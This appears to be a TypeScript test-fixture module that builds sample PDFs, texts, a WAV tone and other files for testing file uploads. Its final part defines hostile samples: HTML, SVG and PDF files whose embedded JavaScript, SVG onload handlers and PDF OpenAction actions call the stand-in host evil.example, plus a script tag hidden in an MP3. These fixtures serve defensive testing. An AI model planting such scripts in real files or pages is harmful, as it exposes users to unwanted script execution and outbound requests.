// Small files that are no photographs, made here: a PDF of several pages, one that tries to run
// something, texts, a sound, a file of no known kind, and pages of markup that must stay text.
import { existsSync, readFileSync } from 'node:fs'
import { basename } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { PickedFile } from './photos.ts'

const file = (name: string, mimeType: string, bytes: Buffer | string): PickedFile => ({
  name,
  mimeType,
  buffer: Buffer.from(bytes as string),
})

/** With a table of places that fits: readers are then spared the search for lost objects. */
function pdfOf(objects: string[]): string {
  let text = '%PDF-1.7\n'
  const places: number[] = []
  objects.forEach((body, i) => {
    places.push(text.length)
    text += `${i + 1} 0 obj\n${body}\nendobj\n`
  })
  const rows = places.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('')
  const size = objects.length + 1
  const table = `xref\n0 ${size}\n0000000000 65535 f \n${rows}`
  return `${text}${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`
}

/** One page per text; `catalog` and `page` are put into their dictionaries. */
export function makePdf(texts: string[], { catalog = '', page = '' } = {}): Buffer {
  const kids = texts.map((_, i) => `${4 + 2 * i} 0 R`).join(' ')
  const pages = texts.flatMap((text, i) => {
    const drawn = `BT /F1 24 Tf 60 700 Td (${text}) Tj ET`
    return [
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page}
/Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + 2 * i} 0 R >>`,
      `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    ]
  })
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${texts.length} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...pages,
  ]
  return Buffer.from(pdfOf(objects), 'latin1')
}

/** Red, 8 by 8, JPEG 2000: what needs a decoder that the reader has to fetch. */
const redPicture = Buffer.from(
  'AAAADGpQICANCocKAAAAFGZ0eXBqcDIgAAAAAGpwMiAAAAAtanAyaAAAABZpaGRyAAAACAAAAAgAAwcHAAAAAAAPY29scgEAAAAAABAAAACnanAyY/9P/1EALwAAAAAACAAAAAgAAAAAAAAAAAAAAAgAAAAIAAAAAAAAAAAAAwcBAQcBAQcBAf9SAAwAAAABAAMEBAAB/1wADUBASEhQSEhQSEhQ/2QAJQABQ3JlYXRlZCBieSBPcGVuSlBFRyB2ZXJzaW9uIDIuNS40/5AACgAAAAAAJgAB/5PPtAgDM8+0CAgfz7QICB+AgICAgICAgID/2Q==',
  'base64',
)

/** One page with the red picture on it. */
function makePicturedPdf(): Buffer {
  const drawn = 'q 400 0 0 400 100 300 cm /Im1 Do Q'
  const picture = `<< /Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceRGB
/BitsPerComponent 8 /Filter /JPXDecode /Length ${redPicture.length} >>`
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]
/Resources << /XObject << /Im1 5 0 R >> >> /Contents 4 0 R >>`,
    `<< /Length ${drawn.length} >>\nstream\n${drawn}\nendstream`,
    `${picture}\nstream\n${redPicture.toString('latin1')}\nendstream`,
  ]
  return Buffer.from(pdfOf(objects), 'latin1')
}

/** A second of a quiet tone. */
function makeWav(): Buffer {
  const rate = 8000
  const data = Buffer.alloc(rate)
  for (let i = 0; i < rate; i++) data[i] = 128 + Math.round(40 * Math.sin((i * 440 * 6.28) / rate))
  const head = Buffer.alloc(44)
  head.write('RIFF', 0)
  head.writeUInt32LE(36 + data.length, 4)
  head.write('WAVEfmt ', 8)
  head.writeUInt32LE(16, 16)
  head.writeUInt16LE(1, 20)
  head.writeUInt16LE(1, 22)
  head.writeUInt32LE(rate, 24)
  head.writeUInt32LE(rate, 28)
  head.writeUInt16LE(1, 32)
  head.writeUInt16LE(8, 34)
  head.write('data', 36)
  head.writeUInt32LE(data.length, 40)
  return Buffer.concat([head, data])
}

export const report = file(
  'Report 2.pdf',
  'application/pdf',
  makePdf(['Heating costs', 'Water costs', 'The sum of all']),
)
export const longReport = file(
  'Report 10.pdf',
  'application/pdf',
  makePdf(Array.from({ length: 12 }, (_, i) => `Chapter ${i + 1}`)),
)
export const pictured = file('Scan.pdf', 'application/pdf', makePicturedPdf())
export const notes = file('notes.txt', 'text/plain', 'Keys are under the mat.\nÜberweisung: 12 €\n')
export const wideNotes = file(
  'from-windows.txt',
  'text/plain',
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Grüße aus Köln', 'utf16le')]),
)
export const sound = file('greeting.wav', 'audio/wav', makeWav())
export const unknown = file(
  'plan.dwg',
  'application/acad',
  Buffer.from('AC1032\0\0\x01\x02drawing'),
)

/** Where the hostile files try to reach and what they try to leave behind. */
export const elsewhere = 'evil.example'
const script = `document.title='hacked';fetch('https://${elsewhere}/x')`
const action = `/S /JavaScript /JS (app.launchURL\\('https://${elsewhere}/pdf'\\); this.submitForm\\('https://${elsewhere}/f'\\))`

/** From beside the repository, when it is there. */
const shared = fileURLToPath(new URL('../../../shared/media/', import.meta.url))
const realHostile = ['hostile/html-named.jpg', 'hostile/zip-named.jpg', 'formats/boats-hostile.svg']
  .filter((path) => existsSync(shared + path))
  .map((path) => file(basename(path), '', readFileSync(shared + path)))

export const hostile: readonly PickedFile[] = [
  ...realHostile,
  file('page.html', 'text/html', `<!doctype html><script>${script}</script><h1>A page</h1>`),
  file(
    'drawing.svg',
    'image/svg+xml',
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><image href="https://${elsewhere}/i.png"/><script>${script}</script></svg>`,
  ),
  file(
    'scripted.pdf',
    'application/pdf',
    makePdf(['Harmless words'], {
      catalog: `/OpenAction << ${action} >> /AA << /WC << ${action} >> >>`,
      page: `/AA << /O << ${action} >> >> /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://${elsewhere}/link) >> >> ]`,
    }),
  ),
  file('not-really.pdf', 'application/pdf', `<html><script>${script}</script></html>`),
  file('broken.pdf', 'application/pdf', '%PDF-1.7\nnothing of a PDF follows'),
  file('sound.mp3', 'audio/mpeg', Buffer.from('ID3\x04\0\0\0\0\0\0<script>alert(1)</script>')),
]
